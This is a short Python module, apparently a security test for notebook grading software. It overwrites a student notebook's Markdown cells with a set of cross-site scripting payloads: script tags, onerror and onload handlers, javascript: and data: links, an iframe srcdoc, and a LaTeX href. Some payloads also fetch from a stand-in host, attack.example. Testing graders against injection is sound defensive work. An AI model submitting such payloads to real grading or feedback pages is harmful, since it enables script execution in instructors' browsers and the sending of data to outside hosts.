"""Writes script, handlers, frames and links of script into Markdown cells.

Succeeds if it acts in formgrader or a feedback page.
"""

import json


def hand_in(folder, notebook, known):
    alert = f"alert('{known['MARK']}')"
    text = f"""<script>{alert}</script>

<img src=x onerror="{alert}"> [marks](javascript:{alert}) [m](data:text/html,{known["MARK"]})

<iframe srcdoc="<script>{alert}</script>"></iframe> <svg onload="{alert}"></svg>

<style>@import url('https://attack.example/{known["MARK"]}')</style>

$\\href{{javascript:{alert}}}{{marks}}$ ![](https://attack.example/{known["MARK"]}.png)
"""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = text
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "m", "source": text})
    path = folder / f"{known['TOPIC']}.ipynb"
    path.write_text(json.dumps(notebook))
